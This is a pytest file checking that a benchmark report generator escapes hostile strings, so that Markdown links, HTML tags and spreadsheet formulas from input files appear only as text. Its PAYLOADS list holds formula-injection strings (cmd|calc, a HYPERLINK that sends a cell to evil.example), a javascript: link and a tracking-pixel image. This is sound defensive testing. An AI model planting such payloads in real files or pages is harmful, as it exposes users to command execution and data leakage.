"""No file content becomes markup (issue 18): hostile strings in every string field of a run reach report.md,
index.html and cases.csv only as text. Before, Markdown links and remote images from a file passed into
report.md, and cells beginning with ``=`` went raw into cases.csv (spreadsheet formula injection)."""

import csv
import json
import re

import pytest

from bench_lib.report import cli, markdown, tidy
from tests.report.conftest import load_doc

PAYLOADS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "[click me](javascript:alert(1))",
    "![pixel](https://evil.example/track.png)",
    "<img src=https://evil.example/x.png><h1>ALL GREEN</h1>",
    "a`b` [x](https://evil.example) `c",
]


def raw_markdown_markup(text: str) -> list[str]:
    """HTML tags, links and images that a Markdown renderer would make of ``text`` (escapes and code removed)."""
    text = re.sub(r"\\.", "", text)
    text = re.sub(r"(`+)(.+?)\1", "", text)
    found = re.findall(r"<[a-zA-Z/!][^>]*>|!?\[[^\]]*\]\([^)]*\)", text)
    return [f for f in found if not re.fullmatch(r"!\[[^\]]*\]\(figures/[a-z0-9_]+\.png\)", f)]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: cells a spreadsheet would evaluate


def formula_cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row if cell.startswith(FORMULA_STARTS)
                and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def hostile_run() -> dict:
    """smoke-finetune.json with a payload in every string field a case record or the environment has."""
    doc = load_doc("smoke-finetune.json")
    payloads = iter(PAYLOADS * 100)
    env = doc["machine_info"]["effbench"]
    env["machine_slug"], env["cpu"]["model"] = next(payloads), next(payloads)
    for rec in doc["effbench"]["cases"]:
        rec["id"] = f"{next(payloads)} {rec['id']}"
        for section in ("case", "metrics", "memory"):
            for key, value in list(rec.get(section, {}).items()):
                if isinstance(value, str) and key not in ("group", "primary"):
                    rec[section][key] = next(payloads)
        rec["metrics"][next(payloads)] = "text metric"  # a metric *name* from the file, too
        if rec["suite"] == "calibration":
            rec["outcome"], rec["reason"] = "error", next(payloads)
    return doc


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.json").write_text(json.dumps(hostile_run()))
    return cli.render([folder / "hostile.json"], folder / "report")


def test_report_md_has_no_link_image_or_html_from_a_file(written):
    text = written.markdown.read_text(encoding="utf-8")
    assert "javascript" in text and "evil.example" in text  # the payloads are shown ...
    assert raw_markdown_markup(text) == []  # ... as text


def test_index_html_has_no_tag_from_a_file(written):
    page = written.index.read_text(encoding="utf-8")
    assert "<h1>ALL GREEN</h1>" not in page and "<img src=https://evil" not in page
    assert "&lt;h1&gt;ALL GREEN&lt;/h1&gt;" in page


def test_cases_csv_neutralises_formula_cells(written):
    assert formula_cells(written.cases_csv) == []
    with open(written.cases_csv, newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert "'" + PAYLOADS[0] in cells  # kept, as text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_escape_leaves_no_markup(payload):
    assert raw_markdown_markup(markdown.escape(payload)) == []


def test_spreadsheet_safe_keeps_numbers_and_plain_text():
    assert tidy.spreadsheet_safe(-1.5) == -1.5 and tidy.spreadsheet_safe("eager") == "eager"
    assert tidy.spreadsheet_safe("=1+1") == "'=1+1"
